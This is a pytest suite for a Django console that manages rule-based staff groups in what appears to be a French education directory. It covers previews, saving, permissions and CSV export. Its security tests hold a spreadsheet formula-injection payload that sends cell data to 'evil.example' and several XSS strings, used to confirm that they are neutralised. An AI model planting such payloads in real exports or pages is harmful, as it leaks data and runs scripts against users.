"""The pages of groups: what is written is shown at once, kept with a reason, told to nobody else."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from casier.audit.models import JournalEntry
from casier.directory import actions
from casier.directory.actions import NewMandate
from casier.directory.models import Academy, Account, Office, Posting, PostingDetail, School
from casier.groups.actions import GroupWords, create_group
from casier.groups.models import Group
from engines.portal_scene import browser, emptied, new_browser, redis_server, sign_in
from unit.identity_people import BY, PASSWORD, academy, person

__all__ = ["browser", "emptied", "redis_server"]  # fixtures
pytestmark = [pytest.mark.engines, pytest.mark.django_db(transaction=True)]
HERE = "/console/groupes/rouen/"
WHY: dict[str, Any] = {"by": BY, "reason": "tests"}


@pytest.fixture
def rouen() -> Academy:
    return academy()


@pytest.fixture
def claire(rouen: Academy) -> Account:
    account = person(rouen)
    monod = School.objects.create(academy=rouen, uai="0760001A", name="Collège Monod", department="76")
    posting = Posting.objects.create(person=account.person, school=monod, function="ENS")
    PostingDetail.objects.create(posting=posting, kind="principal", value="3B")
    return account


@pytest.fixture
def dsi(rouen: Academy, monkeypatch: pytest.MonkeyPatch) -> Client:
    return holder(rouen, Office.DSI, monkeypatch)


def holder(where: Academy, office: Office, monkeypatch: pytest.MonkeyPatch) -> Client:
    monkeypatch.setattr("casier.portal.entry.road.next_duty", lambda *_: None)
    account = person(where, "Alix", f"Agent{office}".replace("_", ""), password=PASSWORD)
    now = timezone.now()
    actions.activate(account, now=now, **WHY)
    actions.give_mandate(account, NewMandate(office), now=now, **WHY)
    visitor = new_browser(f"{where.slug}.localhost:8443")
    assert sign_in(visitor, account.addresses.get(is_primary=True).address).status_code == 302
    return visitor


def get(visitor: Client, path: str, **values: str) -> str:
    answer = visitor.get(path, values, secure=True)
    assert answer.status_code == 200, answer.status_code
    return answer.content.decode()


def post(visitor: Client, path: str, **values: str) -> Any:
    return visitor.post(path, values, secure=True)


def made(where: Academy, slug: str = "pp-3e", rule: str = "professeurs principaux de 3e") -> Group:
    return create_group(where, slug, GroupWords("PP de 3e", rule), now=timezone.now(), **WHY)


def test_a_rule_shows_whom_it_means_before_anything_is_kept(dsi: Client, claire: Account) -> None:
    typed = {"regle": "professeurs principaux de 3e", "nom": "PP", "court": "pp"}
    shown = post(dsi, f"{HERE}nouveau/", apercu="1", **typed).content.decode()
    assert "Claire Lefèvre" in shown
    assert "Collège Monod" in shown
    assert 'value="pp"' in shown  # what was typed stays
    assert not Group.objects.exists()
    piece = post(dsi, f"{HERE}apercu/", regle="fonction = ENS").content.decode()
    assert "Claire Lefèvre" in piece
    assert "<html" not in piece
    wrong = post(dsi, f"{HERE}apercu/", regle="fonction = ENS et fonctoin = DIR").content.decode()
    assert "<mark>fonctoin</mark>" in wrong
    assert "Vouliez-vous dire" in wrong
    unknown = post(dsi, f"{HERE}apercu/", regle="établissement = « College Monode »").content.decode()
    assert "Peut-être « Collège Monod »" in unknown.replace("\u00a0", " ")


def test_a_group_is_kept_changed_and_removed(dsi: Client, claire: Account) -> None:
    typed = {
        "regle": "professeurs principaux de 3e",
        "nom": "PP de 3e",
        "visibilite": "offices",
        "enregistrer": "1",
    }
    without = post(dsi, f"{HERE}nouveau/", court="pp-3e", **typed)
    assert (without.status_code, Group.objects.count()) == (422, 0)
    for court, rule in (("Pas bon", "tous"), ("pp-3e", "fonction ="), ("nouveau", "tous")):
        refused = post(dsi, f"{HERE}nouveau/", court=court, motif="essai", **(typed | {"regle": rule}))
        assert (refused.status_code, Group.objects.count()) == (422, 0)
    answer = post(dsi, f"{HERE}nouveau/", court="pp-3e", motif="Rentrée", **typed)
    assert answer["Location"] == f"{HERE}pp-3e/"
    assert JournalEntry.objects.get(action="group.created").reason == "Rentrée"
    page = get(dsi, f"{HERE}pp-3e/")
    assert "Claire Lefèvre" in page
    assert "principal = 3*" in page
    post(dsi, f"{HERE}pp-3e/modifier/", motif="Suite", **(typed | {"regle": "principal = 4*"}))
    assert Group.objects.get().rule == "principal = 4*"
    assert "PP de 3e" in get(dsi, HERE)
    assert post(dsi, f"{HERE}pp-3e/supprimer/", motif="Fini").status_code == 302
    assert "PP de 3e" not in get(dsi, HERE)
    assert dsi.get(f"{HERE}pp-3e/", secure=True).status_code == 404


def test_why_someone_is_in_it_or_not(dsi: Client, claire: Account, rouen: Academy) -> None:
    made(rouen, rule="principal = 3* et département = 14")
    path, address = f"{HERE}pp-3e/", claire.addresses.get(is_primary=True).address
    page = get(dsi, path, personne=address)
    assert "Claire Lefèvre ne fait pas partie du groupe" in page
    assert re.findall(r'class="tag">(\w+)', page)[-3:] == ["non", "oui", "non"]
    stranger = person(academy("nancy-metz", ("ac-nancy-metz.fr",)), "Zoé", "Schmitt")
    for other in (stranger.addresses.get(is_primary=True).address, "personne@ac-rouen.fr", "x", "'"):
        page = get(dsi, path, personne=other)
        assert "Personne de votre ressort" in page
        assert "Schmitt" not in page.replace(other, "")


def test_an_export_holds_no_formula(dsi: Client, claire: Account, rouen: Academy) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    claire.person.family_name = "Lefèvre"
    claire.person.given_name = evil
    claire.person.save()
    made(rouen)
    answer = dsi.get(f"{HERE}pp-3e/membres.csv", secure=True)
    text = answer.content.decode()
    assert answer["Content-Disposition"] == 'attachment; filename="pp-3e.csv"'
    assert "\"'=HYPERLINK" in text
    assert not re.search(r'(^|;)"?[=+@-]', text.removeprefix("\ufeff"), re.MULTILINE)


def test_what_is_hostile_is_text(dsi: Client, claire: Account) -> None:
    for rule in ("<script>alert(1)</script>", "ville = « <img src=x onerror=alert(1)> »", "ville = '\"><b>"):
        page = post(dsi, f"{HERE}nouveau/", regle=rule, apercu="1").content.decode()
        assert not re.search(r"<script>alert|<img src=x|><b>", page), rule
    assert post(dsi, f"{HERE}apercu/", regle="(" * 100_000).status_code == 200


def test_the_help_desk_sees_and_changes_nothing(
    rouen: Academy, claire: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    made(rouen)
    desk = holder(rouen, Office.HELP_DESK, monkeypatch)
    page = get(desk, f"{HERE}pp-3e/")
    assert "Claire Lefèvre" in page
    assert "modifier/" not in page
    assert "nouveau/" not in get(desk, HERE)
    for path in ("nouveau/", "pp-3e/modifier/", "pp-3e/supprimer/", "apercu/"):
        assert post(desk, HERE + path, regle="tous", motif="x", enregistrer="1").status_code in {403, 404}
    assert Group.objects.get().rule == "principal = 3*"
    nancy = academy("nancy-metz", ("ac-nancy-metz.fr",))
    made(nancy, "leurs")
    assert desk.get("/console/groupes/nancy-metz/leurs/", secure=True).status_code == 404
